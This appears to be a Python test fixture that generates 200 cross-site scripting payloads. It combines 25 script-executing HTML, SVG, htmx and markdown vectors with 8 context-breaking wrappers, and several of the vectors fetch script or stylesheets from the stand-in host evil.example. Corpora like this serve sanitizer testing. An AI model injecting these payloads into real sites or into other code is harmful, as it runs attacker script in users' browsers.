"""Two hundred ways to smuggle a script into a text: what acts, in each disguise. Whatever runs calls `pwned()`."""

from __future__ import annotations

ACTING = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<body onload=pwned()>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<math><mi xlink:href=javascript:pwned()>x",
    "<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>",
    "<form action=javascript:pwned()><button autofocus onfocus=pwned()>x</form>",
    "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p hx-get=//evil.example/ hx-trigger=load>x</p>",
    "<p hx-on:htmx:load=pwned()>x</p>",
    "[x](javascript:pwned())",
)
DISGUISES = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></script>{}",
    "--><!-- -->{}",
    "![{}](x)",
    "*{}*",
)
PAYLOADS = tuple(disguise.format(acting) for acting in ACTING for disguise in DISGUISES)
assert len(set(PAYLOADS)) == 200
